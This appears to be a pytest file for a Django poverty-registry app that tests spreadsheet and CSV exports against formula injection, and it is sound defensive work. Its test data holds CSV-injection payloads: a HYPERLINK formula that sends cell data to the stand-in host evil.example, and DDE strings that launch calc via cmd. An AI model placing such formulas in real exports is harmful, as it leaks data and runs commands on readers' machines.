"""Exports cannot attack their reader: a name typed as a formula reaches Excel as that text.

xlsx files are read back with openpyxl (which keeps formulas as formulas) and their raw sheet XML
is searched for formula elements; CSV files are read as text. Numbers must stay numbers."""

import csv
import datetime as dt
import io
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from python_calamine import CalamineWorkbook

from fupin.registry.models import Household, Person
from tests.conftest import TOWN_A, login
from tests.exchange.files import ROSTER_HEADER, VILLAGE_A, idn, roster_rows, xlsx

LINK = '=HYPERLINK("http://evil.example/?"&B2,"点此")'
DDE = (
    "=1+2+cmd|calc!A0"  # no quotes: the comparison's CSV sniffer reads quotes in names its own way
)
TEXTS = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1"]


def _content(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def assert_no_formula(data: bytes) -> dict[str, openpyxl.cell.Cell]:
    """No formula anywhere; returns the text cells by value."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    book = openpyxl.load_workbook(io.BytesIO(data))
    texts = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts[cell.value] = cell
    return texts


@pytest.mark.django_db
def test_household_export_keeps_formula_like_names_as_visible_text(county_user, make_household):
    hh = make_household(TOWN_A, members=len(TEXTS))
    Household.objects.filter(pk=hh.pk).update(head_name=LINK, address="@村委会旁")
    for person, text in zip(Person.objects.filter(household=hh).order_by("id"), TEXTS, strict=True):
        Person.objects.filter(pk=person.pk).update(name=text)
    data = _content(login(county_user).get("/registry/households/export.xlsx"))
    texts = assert_no_formula(data)
    for text in [*TEXTS, "@村委会旁"]:
        assert text in texts, text  # exactly the text that was typed, visible
        assert texts[text].data_type == "s" and texts[text].quotePrefix  # and kept text when edited
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert (
        book["贫困户"]["D2"].value == len(TEXTS) and book["贫困户"]["D2"].data_type == "n"
    )  # 家庭人口 stays a number
    cells = (
        CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_name("家庭成员").to_python()
    )
    assert sorted(row[2] for row in cells[1:]) == sorted(TEXTS)


@pytest.mark.django_db
def test_rejected_rows_export_keeps_the_file_text(county_user):
    bad_id = idn("36022219800101001")[:17] + ("1" if idn("36022219800101001")[17] != "1" else "2")
    data = xlsx(roster_rows("X001", VILLAGE_A, [(bad_id, LINK, "户主")]), header=ROSTER_HEADER)
    client = login(county_user)
    client.post(
        "/exchange/imports/", {"kind": "roster", "file": SimpleUploadedFile("花名册.xlsx", data)}
    )
    from fupin.exchange.models import ImportJob

    job = ImportJob.objects.get()
    assert job.counts["rejected"] == 1
    texts = assert_no_formula(_content(client.get(f"/exchange/imports/{job.pk}/rejected.xlsx")))
    assert texts[LINK].quotePrefix


def test_comparison_csv_neutralises_names_and_keeps_numbers(tmp_path):
    from fupin.exchange.comparison import Settings, compare_files

    person = idn("36022219600101001")
    reg, enr = tmp_path / "registry.csv", tmp_path / "enrolment.csv"
    with open(reg, "w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows([["id_number", "name", "area_code", "status", "poor", "dibao", "tekun",
                                  "severe_disability"],
                                 [person, DDE, VILLAGE_A, "poor", 1, 0, 0, 0]])  # fmt: skip
    with open(enr, "w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows([["id_number", "name", "area_code", "insurance", "enrolment_status", "poverty_tag",
                                  "premium_subsidy", "deceased"],
                                 [idn("36022219700101002"), "@外县人", "360281", "pension", "active", 0, 0,
                                  0]])  # fmt: skip
    compare_files(
        str(reg),
        str(enr),
        str(tmp_path / "out"),
        Settings.from_pack("fuliang-2018", as_of=dt.date(2020, 6, 30)),
    )
    with open(tmp_path / "out" / "not_enrolled_pension.csv", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [r["name"] for r in rows] == ["'" + DDE]
    assert rows[0]["registry_row"] == "1"  # numbers stay numbers


@pytest.mark.django_db
def test_settle_csv_neutralises_claim_numbers_not_amounts(tmp_path):
    claims = tmp_path / "claims.csv"
    claims.write_text("claim_id,person_id,category,visit_type,hospital_level,chronic_class,disease_code,admission_date,"
                      "total_cost,in_policy_cost\n=1+2,P1,poor,inpatient,2,,C34.1,2018-03-01,50000,40000\n"
                      "-7,P2,general,inpatient,3,,,2018-05-01,12000.50,10000\n", encoding="utf-8")  # fmt: skip
    out = tmp_path / "split.csv"
    call_command(
        "settle",
        "--policy",
        "fuliang-2018",
        "--claims",
        str(claims),
        "--out",
        str(out),
        stdout=io.StringIO(),
    )
    lines = out.read_text(encoding="utf-8").splitlines()
    assert (
        lines[1] == "'=1+2,40000.00,0.00,0.00,5000.00,5000.00"
    )  # F-01, worked by hand in tests/policy/test_golden.py
    assert lines[2].startswith("-7,5520.00,")  # a claim number that is just a number is left alone


def test_cell_writer_numbers_stay_numbers(tmp_path):
    import xlsxwriter

    from fupin.sheets.write import WORKBOOK_OPTIONS, CellWriter, csv_row

    path = tmp_path / "a.xlsx"
    book = xlsxwriter.Workbook(str(path), WORKBOOK_OPTIONS)
    sheet = book.add_worksheet()
    CellWriter(book).write_row(
        sheet, 0, [-1250, -3.5, "-3.5", "=1+1", None, "http://evil.example/"]
    )
    book.close()
    texts = assert_no_formula(path.read_bytes())
    row = next(openpyxl.load_workbook(path).active.iter_rows(values_only=True))
    assert row == (-1250, -3.5, "-3.5", "=1+1", None, "http://evil.example/")
    assert not openpyxl.load_workbook(path).active["F1"].hyperlink  # no live link either
    assert texts["=1+1"].quotePrefix
    assert csv_row([-1250, "-3.5", "=1+1", "+86 138", "@x", "\tx", "张三"]) == [
        -1250,
        "-3.5",
        "'=1+1",
        "'+86 138",
        "'@x",
        "'\tx",
        "张三",
    ]
